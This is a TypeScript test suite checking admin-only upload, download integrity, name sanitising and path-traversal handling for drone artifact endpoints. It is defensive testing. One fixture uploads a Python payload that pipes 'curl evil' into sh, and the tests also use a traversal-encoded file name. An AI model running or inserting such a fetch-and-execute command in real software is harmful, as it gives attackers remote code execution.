import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { existsSync } from 'node:fs';
import { createHash } from 'node:crypto';
import { join } from 'node:path';
import { startTarget, type Target } from '../support/target.js';
import { createOperator, registerAgent } from '../support/fixtures.js';

/** Drone artifacts: trusted files drones download and run (spec 05 §8, §17.1 C-3, SEC-27). */
let t: Target;
beforeAll(async () => {
  t = await startTarget();
});
afterAll(() => t.close());

function form(fileName: string, content: string, name?: string) {
  const f = new FormData();
  if (name) f.append('name', name);
  f.append('file', new Blob([content]), fileName);
  return f;
}
const upload = (opts: { admin?: boolean; agentKey?: string; token?: string }, body: FormData) =>
  t.call('POST', '/drones/artifacts', { ...opts, raw: body });
const sha = (s: string) => createHash('sha256').update(s).digest('hex');

describe('artifact upload is admin-only (SEC-27)', () => {
  it('SEC-27: an agent, a non-admin operator and an anonymous caller cannot upload; nothing is written', async () => {
    const a = await registerAgent(t, 'art-agent', 'lab');
    const op = await createOperator(t, 'art-member', 'member');
    const before = await t.call('GET', '/drones/artifacts', { agentKey: a.key });
    const msg = 'Artifact upload is admin-only — artifacts are trusted code executed on drones.';
    const byAgent = await upload({ agentKey: a.key }, form('generate_flux.py', 'import os; os.system("curl evil|sh")'));
    expect(byAgent.status).toBe(403);
    expect(byAgent.body).toEqual({ error: msg });
    const byOp = await upload({ token: op.token }, form('generate_flux.py', 'evil'));
    expect(byOp.status).toBe(403);
    const anon = await upload({}, form('generate_flux.py', 'evil'));
    expect(anon.status).toBe(401);
    expect((await t.call('GET', '/drones/artifacts', { agentKey: a.key })).body).toEqual(before.body);
    expect(Number((await t.db.get<{ n: number }>('SELECT COUNT(*) AS n FROM drone_artifacts'))!.n)).toBe(0);
    if (t.runtime === 'node') expect(existsSync(join(t.dataDir, 'blobs', 'artifacts'))).toBe(false);
  });

  it('an admin uploads; the list carries size and sha256; drones download the exact bytes as an attachment', async () => {
    const a = await registerAgent(t, 'art-drone', 'drone');
    const content = 'print("hello from the drone")\n';
    const up = await upload({ admin: true }, form('generate_flux.py', content));
    expect(up.status).toBe(200);
    expect(up.body).toEqual({
      ok: true,
      name: 'generate_flux.py',
      url: expect.stringMatching(/\/api\/mycelium\/drones\/artifacts\/generate_flux\.py$/),
      size: content.length,
      sha256: sha(content),
    });
    const list = await t.call('GET', '/drones/artifacts', { agentKey: a.key });
    expect(list.body).toContainEqual({
      name: 'generate_flux.py',
      size: content.length,
      sha256: sha(content),
      uploaded: expect.stringMatching(/Z$/),
      url: up.body.url,
    });
    const dl = await t.fetch('/api/mycelium/drones/artifacts/generate_flux.py', { headers: { 'X-Agent-Key': a.key } });
    expect(dl.status).toBe(200);
    expect(dl.headers.get('content-disposition')).toBe('attachment; filename="generate_flux.py"');
    expect(dl.headers.get('x-artifact-sha256')).toBe(sha(content));
    expect(await dl.text()).toBe(content);
    expect((await t.fetch('/api/mycelium/drones/artifacts/generate_flux.py')).status).toBe(401);
  });

  it('names are sanitised, uploads replace by name, traversal names find nothing, deletes are admin-only', async () => {
    const a = await registerAgent(t, 'art-reader', 'lab');
    const odd = await upload({ admin: true }, form('my file!.py', 'x = 1'));
    expect(odd.body.name).toBe('my_file_.py');
    const named = await upload({ admin: true }, form('whatever.bin', 'v1', 'model.safetensors'));
    expect(named.body.name).toBe('model.safetensors');
    const v2 = await upload({ admin: true }, form('whatever.bin', 'version two', 'model.safetensors'));
    expect(v2.body.size).toBe('version two'.length);
    const dl = await t.fetch('/api/mycelium/drones/artifacts/model.safetensors', { headers: { 'X-Agent-Key': a.key } });
    expect(await dl.text()).toBe('version two');
    expect(
      Number(
        (await t.db.get<{ n: number }>("SELECT COUNT(*) AS n FROM drone_artifacts WHERE name = 'model.safetensors'"))!
          .n,
      ),
    ).toBe(1);

    for (const bad of ['..%2F..%2Fmycelium.db', '..', 'nope.py']) {
      const r = await t.call('GET', `/drones/artifacts/${bad}`, { agentKey: a.key });
      expect(r.status, bad).toBe(404);
      // A bare `..` is already resolved away by URL parsing and misses the route altogether.
      if (bad !== '..') expect(r.body).toEqual({ error: 'Artifact not found' });
    }
    const noFile = await t.call('POST', '/drones/artifacts', { admin: true, body: { name: 'x' } });
    expect(noFile.status).toBe(400);
    expect(noFile.body.error).toBe('No file uploaded. Use multipart form with field name "file"');

    expect([401, 403]).toContain((await t.call('DELETE', '/drones/artifacts/my_file_.py', { agentKey: a.key })).status);
    expect((await t.call('DELETE', '/drones/artifacts/my_file_.py', { admin: true })).body).toEqual({
      ok: true,
      deleted: 'my_file_.py',
    });
    expect((await t.call('GET', '/drones/artifacts/my_file_.py', { agentKey: a.key })).status).toBe(404);
    expect((await t.call('DELETE', '/drones/artifacts/my_file_.py', { admin: true })).status).toBe(404);
  });
});
